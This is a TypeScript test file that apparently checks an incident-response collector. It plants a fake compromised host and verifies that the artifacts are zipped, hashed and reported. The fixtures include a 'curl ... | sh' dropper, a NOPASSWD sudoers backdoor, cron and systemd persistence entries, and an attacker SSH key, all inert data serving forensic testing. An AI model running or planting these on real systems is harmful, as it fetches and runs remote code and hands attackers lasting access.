import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { openAsBlob } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import type { Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { BlobReader, Uint8ArrayWriter, ZipReader } from '@zip.js/zip.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INVESTIGATION_CATALOG, InvestigationCollector } from '../src/collect/index.js';
import type { InvestigationReport, PackageSummary } from '../src/collect/index.js';
import { cmd, requirements } from './support/requirements.js';

const missing = requirements([cmd('7z', 'p7zip-full')]);
const sha256 = (data: string | Uint8Array): string => createHash('sha256').update(data).digest('hex');

const DROPPER = '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n';
const PASSWD = 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n';

/** A small host tree: some of the catalog's files are planted, most are left out on purpose. */
const PLANTED: Record<string, string> = {
  'etc/passwd': PASSWD,
  'etc/group': 'root:x:0:\nalice:x:1000:\nsudo:x:27:alice\n',
  'etc/sudoers': 'root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n',
  'etc/sudoers.d/90-backdoor': 'alice ALL=(ALL) NOPASSWD: ALL\n',
  'etc/crontab': '*/5 * * * * root /tmp/dropper.sh\n',
  'var/spool/cron/crontabs/alice': '@reboot /home/alice/.cache/x\n',
  'home/alice/.bash_history': 'ls\nsudo -l\ncurl http://203.0.113.9/x | sh\n',
  'home/alice/.ssh/authorized_keys': 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker attacker@evil\n',
  'etc/systemd/system/evil.service':
    '[Service]\nExecStart=/tmp/dropper.sh\n[Install]\nWantedBy=multi-user.target\n',
  'etc/systemd/system/evil.timer': '[Timer]\nOnCalendar=hourly\n',
  'tmp/dropper.sh': DROPPER,
  'tmp/.hidden/loot.txt': 'secrets\n',
  'dev/shm/payload.bin': 'MZ\0\0payload',
};

describe.skipIf(missing.length)('investigation package on this machine', () => {
  let base: string;
  let fsRoot: string;
  let workDir: string;
  let listener: Server;
  let port: number;
  let report: InvestigationReport;
  let summary: PackageSummary;
  let zipEntries: Map<string, Uint8Array>;
  const progress: [number, number | null][] = [];

  const text = (name: string): string =>
    Buffer.from(zipEntries.get(name) ?? new Uint8Array()).toString('utf8');

  beforeAll(async () => {
    base = await mkdtemp(path.join(tmpdir(), 'quell-collect-'));
    fsRoot = path.join(base, 'root');
    workDir = path.join(base, 'work');
    await mkdir(workDir);
    for (const [rel, content] of Object.entries(PLANTED)) {
      await mkdir(path.dirname(path.join(fsRoot, rel)), { recursive: true });
      await writeFile(path.join(fsRoot, rel), content);
    }
    await mkdir(path.join(fsRoot, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
    await symlink(
      '../evil.service',
      path.join(fsRoot, 'etc/systemd/system/multi-user.target.wants/evil.service'),
    );

    listener = createServer();
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as { port: number }).port;

    const collector = new InvestigationCollector({ fsRoot, hostname: 'test-host', commandTimeoutMs: 20_000 });
    report = await collector.collect(workDir, {
      signal: new AbortController().signal,
      progress: (done, total) => progress.push([done, total]),
    });

    const reader = new ZipReader(new BlobReader(await openAsBlob(report.zipPath)));
    zipEntries = new Map();
    for (const entry of await reader.getEntries()) {
      if (!entry.directory) zipEntries.set(entry.filename, await entry.getData(new Uint8ArrayWriter()));
    }
    await reader.close();
    summary = JSON.parse(text('summary.json')) as PackageSummary;
  });

  afterAll(async () => {
    listener?.close();
    await rm(base, { recursive: true, force: true });
  });

  it('writes one zip whose digest and size the report gives', async () => {
    const bytes = await readFile(report.zipPath);
    expect(path.dirname(report.zipPath)).toBe(workDir);
    expect(report.sizeBytes).toBe(bytes.length);
    expect(report.sha256).toBe(sha256(bytes));
    expect(await readdir(workDir)).toEqual([path.basename(report.zipPath)]);
  });

  it('is a normal zip for 7-Zip: it lists and extracts every entry with the same content', async () => {
    const listing = execFileSync('7z', ['l', '-ba', '-slt', report.zipPath], { encoding: 'utf8' });
    const listed = [...listing.matchAll(/^Path = (.+)$/gm)]
      .map((m) => m[1])
      .filter((p) => zipEntries.has(p!));
    expect(new Set(listed)).toEqual(new Set(zipEntries.keys()));
    const out = path.join(base, 'extracted');
    execFileSync('7z', ['x', '-bd', '-y', `-o${out}`, report.zipPath], { stdio: 'ignore' });
    for (const [name, content] of zipEntries) {
      expect(sha256(await readFile(path.join(out, name))), name).toBe(sha256(content));
    }
  });

  it('accounts for every catalog item: as a file in the zip, or missing/failed with the reason', () => {
    for (const item of INVESTIGATION_CATALOG) {
      const entries = summary.items.filter((e) => e.item === item.id);
      expect(entries.length, item.id).toBeGreaterThan(0);
      for (const e of entries) {
        expect(e.category).toBe(item.category);
        if (e.status === 'collected') {
          expect(zipEntries.has(e.name), e.name).toBe(true);
          expect(e.sha256).toBe(sha256(zipEntries.get(e.name)!));
          expect(e.bytes).toBe(zipEntries.get(e.name)!.length);
        } else {
          expect(e.error, `${e.name} has no reason`).toMatch(/\S/);
        }
      }
    }
    const described = new Set(summary.items.map((e) => e.name));
    for (const name of zipEntries.keys()) {
      if (!name.startsWith('summary.')) expect(described.has(name), name).toBe(true);
    }
    expect(report.items).toEqual(summary.items);
  });

  it.each([
    ['accounts/users/etc/passwd', 'etc/passwd'],
    ['accounts/groups/etc/group', 'etc/group'],
    ['accounts/sudoers/etc/sudoers.d/90-backdoor', 'etc/sudoers.d/90-backdoor'],
    ['persistence/cron/etc/crontab', 'etc/crontab'],
    ['persistence/cron/var/spool/cron/crontabs/alice', 'var/spool/cron/crontabs/alice'],
    ['shell-history/shell-histories/home/alice/.bash_history', 'home/alice/.bash_history'],
    ['persistence/authorized-keys/home/alice/.ssh/authorized_keys', 'home/alice/.ssh/authorized_keys'],
    ['persistence/unit-files/etc/systemd/system/evil.service', 'etc/systemd/system/evil.service'],
    ['persistence/timer-units/etc/systemd/system/evil.timer', 'etc/systemd/system/evil.timer'],
  ])('copies the planted %s byte for byte', (name, rel) => {
    expect(text(name)).toBe(PLANTED[rel]);
  });

  it.each([
    ['dns-files', 'dns/dns-files/etc/resolv.conf', /does not exist/],
    ['ld-preload', 'persistence/ld-preload/etc/ld.so.preload', /does not exist/],
    ['auth-logs', 'sign-ins/auth-logs/var/log/auth.log*', /no file matches/],
    ['last', 'sign-ins/last.txt', /wtmp/],
  ])('records the left-out %s source as missing', (item, name, reason) => {
    const e = summary.items.find((i) => i.name === name);
    expect(e, name).toMatchObject({ item, status: 'missing', bytes: 0, sha256: null });
    expect(e?.error).toMatch(reason);
    expect(zipEntries.has(name)).toBe(false);
  });

  it('lists the temporary directories with the SHA-256 of the planted file', () => {
    const lines = text('temp-files/temp-listing.jsonl')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toContainEqual(
      expect.objectContaining({
        path: '/tmp/dropper.sh',
        type: 'file',
        size: DROPPER.length,
        sha256: sha256(DROPPER),
      }),
    );
    expect(lines).toContainEqual(
      expect.objectContaining({ path: '/tmp/.hidden/loot.txt', sha256: sha256('secrets\n') }),
    );
    expect(lines).toContainEqual(expect.objectContaining({ path: '/dev/shm/payload.bin', type: 'file' }));
    expect(lines).toContainEqual(expect.objectContaining({ path: '/var/tmp', note: 'does not exist' }));
  });

  it('shows enablement symlinks of units as symlinks with their target', () => {
    const lines = text('persistence/unit-links.jsonl')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toContainEqual(
      expect.objectContaining({
        path: '/etc/systemd/system/multi-user.target.wants/evil.service',
        type: 'symlink',
        target: '../evil.service',
      }),
    );
  });

  it('lists this test process with its command line, image path and image SHA-256', async () => {
    const processes = JSON.parse(text('processes/processes.json')) as any[];
    const me = processes.find((p) => p.pid === process.pid);
    expect(me).toBeDefined();
    expect(me.ppid).toBe(process.ppid);
    expect(me.cmdline.join(' ')).toContain(process.argv[1]);
    expect(me.exe).toBe(process.execPath);
    expect(me.sha256).toBe(sha256(await readFile(process.execPath)));
    expect(text('processes/process-tree.txt')).toMatch(
      new RegExp(`^${process.pid}\\t${process.ppid}\\t`, 'm'),
    );
  });

  it("includes the test's TCP listener, owned by this process", () => {
    const sockets = JSON.parse(text('network/connections.json')) as any[];
    expect(sockets).toContainEqual(
      expect.objectContaining({
        proto: 'tcp',
        localAddress: '127.0.0.1',
        localPort: port,
        state: 'LISTEN',
        pids: expect.arrayContaining([expect.objectContaining({ pid: process.pid })]),
      }),
    );
    expect(text('open-files/open-files.tsv')).toMatch(
      new RegExp(`^${process.pid}\\t\\S+\\t\\d+\\tsocket:\\[`, 'm'),
    );
  });

  it('writes a readable summary.txt naming the host and every missing source', () => {
    const txt = text('summary.txt');
    expect(txt).toContain('test-host');
    expect(txt).toContain(`${summary.counts.missing} missing`);
    expect(txt).toContain('[missing] ld-preload');
  });

  it('reports progress after each catalog item', () => {
    const n = INVESTIGATION_CATALOG.length;
    expect(progress).toEqual(Array.from({ length: n }, (_, i) => [i + 1, n]));
  });
});
